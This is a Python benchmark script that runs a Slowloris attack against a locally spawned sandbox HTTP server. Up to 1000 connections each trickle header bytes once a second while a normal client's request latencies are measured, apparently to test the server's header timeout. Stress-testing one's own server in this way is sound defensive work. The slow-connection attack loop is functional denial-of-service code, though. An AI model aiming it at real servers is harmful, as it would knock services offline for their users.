#!/usr/bin/env python3
"""Slowloris against billagain-sandbox (it shares blubridge's HTTP server).

Opens N connections that each send one header byte a second (reconnecting when the server
cuts them at its header timeout) while a normal client sends GET /v1/customers/302 on a
keep-alive connection every 100 ms. Prints the normal client's latencies.

  bench/slowloris/run.py build/release/src/sandbox/billagain-sandbox [connections] [seconds]
"""
import base64, http.client, os, random, resource, socket, statistics, subprocess, sys, threading, time

sandbox, count, seconds = sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 1000, int(sys.argv[3]) if len(sys.argv) > 3 else 30
fixture = os.path.join(os.path.dirname(__file__), "..", "..", "config", "sandbox-fixture.json")
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

proc = subprocess.Popen([sandbox, "--listen", "127.0.0.1:0", "--account", "1001", "--api-key", "k",
                         "--fixture", fixture, "--threads", "2"], stdout=subprocess.PIPE, text=True)
line = proc.stdout.readline()
port = int(line.strip().rsplit(":", 1)[1])
header = b"GET /never HTTP/1.1\r\nHost: t\r\nX-Pad: " + b"a" * 10000
stop = threading.Event()
reconnects = [0]

def attacker(i):
    sock, at = None, 0
    time.sleep(random.random())  # spread the one-a-second bytes over the second
    while not stop.is_set():
        try:
            if sock is None:
                sock, at = socket.create_connection(("127.0.0.1", port)), 0
            sock.send(header[at:at + 1])
            at += 1
        except OSError:
            sock = None
            reconnects[0] += 1
        stop.wait(1.0)

threads = [threading.Thread(target=attacker, args=(i,), daemon=True) for i in range(count)]
for t in threads: t.start()
time.sleep(2)  # let every attacker connect
auth = "Basic " + base64.b64encode(b"1001:k").decode()
conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
lat, errors, end = [], 0, time.time() + seconds
while time.time() < end:
    t0 = time.perf_counter()
    try:
        conn.request("GET", "/v1/customers/302", headers={"Authorization": auth})
        r = conn.getresponse(); r.read()
        if r.status != 200: errors += 1
    except OSError:
        errors += 1
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    lat.append((time.perf_counter() - t0) * 1000)
    time.sleep(0.1)
stop.set()
proc.terminate(); proc.wait()
lat.sort()
print(f"slow connections {count}, {seconds} s: normal GETs {len(lat)}, errors {errors}, "
      f"p50 {statistics.median(lat):.2f} ms, p99 {lat[int(len(lat) * 0.99) - 1]:.2f} ms, max {lat[-1]:.2f} ms, "
      f"slow reconnects after the header timeout {reconnects[0]}")
